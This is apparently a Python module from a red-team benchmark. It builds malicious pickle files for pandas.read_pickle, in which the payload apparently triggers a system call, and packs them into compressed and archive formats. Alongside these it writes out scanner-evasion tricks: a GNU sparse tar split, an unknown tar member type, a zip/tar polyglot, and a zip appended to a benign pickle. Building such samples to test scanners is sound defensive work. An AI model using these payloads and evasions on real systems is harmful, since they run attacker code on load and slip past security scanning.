"""pandas.read_pickle: every compression it infers from the file name.

Read from pandas/io/common.py (get_handle): '.gz' gzip, '.bz2' bz2, '.zip' a zip
with exactly one member (zipfile), '.xz' lzma, '.zst' zstandard (when the
zstandard package is installed), '.tar'/'.tar.gz'/... tarfile with exactly one
member, mode 'r:*'. read_pickle then calls pickle.load on the handle.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import zipfile

from benchmarks.redteam.archives import gnu_sparse_tar, tar_bytes, tar_members, v7_tar, zip_bytes
from benchmarks.redteam.pickles import PROTO4, STOP, system_call, system_pickle
from benchmarks.redteam.sample import Sample

F = "pandas"


def _zst(data: bytes) -> bytes:
    import zstandard

    return zstandard.ZstdCompressor().compress(data)


def _p(name: str, data: bytes) -> dict[str, bytes]:
    return {name: data}


def sparse_split_pickle() -> bytes:
    """A GNU sparse member: tarfile rebuilds the call from two stored chunks with a hole of zeros
    between them, inside a BINBYTES payload. The stored bytes alone (the hole left out) give the
    payload the call's opcodes and the stream ends inside it."""
    pad = 48
    full = PROTO4 + b"B" + struct.pack("<I", pad) + b"\0" * pad + b"0" + system_call() + STOP
    at, hole = 7 + 8, 32
    return gnu_sparse_tar("frame.pkl", [(0, full[:at]), (at + hole, full[at + hole:])], len(full))


def zip_tar_polyglot(member: bytes) -> bytes:
    """A zip with one benign member whose local header is also a V7 tar header: the tar's only
    member (named by the zip header's first bytes) holds `member`, inside the zip entry's extra
    field, which zip readers skip. pandas reads a `.tar` with tarfile; zip tools see the zip."""
    name = "frame.pkl"
    start = 30 + len(name) + 4  # where the extra field's data begins
    blob = bytearray(1536 - start)  # the tar header's fields, the member, then an end-of-archive block

    def put(offset: int, data: bytes) -> None:
        blob[offset - start:offset - start + len(data)] = data

    put(100, b"0000644\0")
    put(108, b"0000000\0")
    put(116, b"0000000\0")
    put(124, b"%011o\0" % len(member))
    put(136, b"%011o\0" % 0)
    put(148, b" " * 8)
    put(156, b"0")
    put(512, member)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        info = zipfile.ZipInfo(name)
        info.extra = struct.pack("<HH", 0xCAFE, len(blob)) + bytes(blob)
        zf.writestr(info, pickle.dumps({"rows": 3}, protocol=4))
    raw = bytearray(out.getvalue())
    raw[148:156] = b"%06o\0 " % sum(raw[:512])
    return bytes(raw)


SAMPLES = [
    Sample("pandas_zstd", F, "pandas.read_pickle", "process",
           "'.zst': zstandard, magic 28 b5 2f fd, a compression pandas reads and joblib does not",
           lambda: _p("frame.pkl.zst", _zst(system_pickle())), fast=True),
    Sample("pandas_tar_v7", F, "pandas.read_pickle", "process",
           "'.tar' with one V7 member (no ustar magic): tarfile reads it",
           lambda: _p("frame.tar", v7_tar({"frame.pkl": system_pickle()}))),
    Sample("pandas_tar_unknown_type", F, "pandas.read_pickle", "process",
           "'.tar' whose one member has a type tarfile does not know ('Z'): extractfile hands it out as a regular "
           "file; a scanner that scans regular members only skips it",
           lambda: _p("frame.tar", tar_members([("frame.pkl", system_pickle(), b"Z", "")])), fast=True),
    Sample("pandas_tar_gnu_sparse", F, "pandas.read_pickle", "process",
           "'.tar' whose member is GNU sparse: tarfile puts a hole of zeros back inside a BINBYTES payload, so the "
           "call after it lines up; the stored bytes read in place end inside the payload",
           lambda: _p("frame.tar", sparse_split_pickle())),
    Sample("pandas_tar_zip_polyglot", F, "pandas.read_pickle", "process",
           "'.tar' that is a zip (PK first, a benign member) and a V7 tar whose header is the zip's local header: "
           "the tar member lives in the zip entry's extra field; a scanner that decides by the first bytes sees a zip",
           lambda: _p("frame.tar", zip_tar_polyglot(system_pickle()))),
    Sample("pandas_gzip", F, "pandas.read_pickle", "process", "baseline: '.gz'",
           lambda: _p("frame.pkl.gz", gzip.compress(system_pickle(), mtime=0))),
    Sample("pandas_bz2", F, "pandas.read_pickle", "process", "baseline: '.bz2'",
           lambda: _p("frame.pkl.bz2", bz2.compress(system_pickle()))),
    Sample("pandas_xz", F, "pandas.read_pickle", "process", "baseline: '.xz'",
           lambda: _p("frame.pkl.xz", lzma.compress(system_pickle()))),
    Sample("pandas_zip", F, "pandas.read_pickle", "process", "baseline: '.zip' with one member",
           lambda: _p("frame.zip", zip_bytes({"frame.pkl": system_pickle()}))),
    Sample("pandas_tar_gz", F, "pandas.read_pickle", "process", "baseline: '.tar.gz' with one member",
           lambda: _p("frame.tar.gz", tar_bytes({"frame.pkl": system_pickle()}, "w:gz"))),
    Sample("pandas_zip_after_benign_pickle", F, "pandas.read_pickle", "process",
           "a benign pickle with a zip appended: zipfile reads the zip from its end, pickle.load the start",
           lambda: _p("frame.zip", b"\x80\x04N." + zip_bytes({"frame.pkl": system_pickle()}))),
]
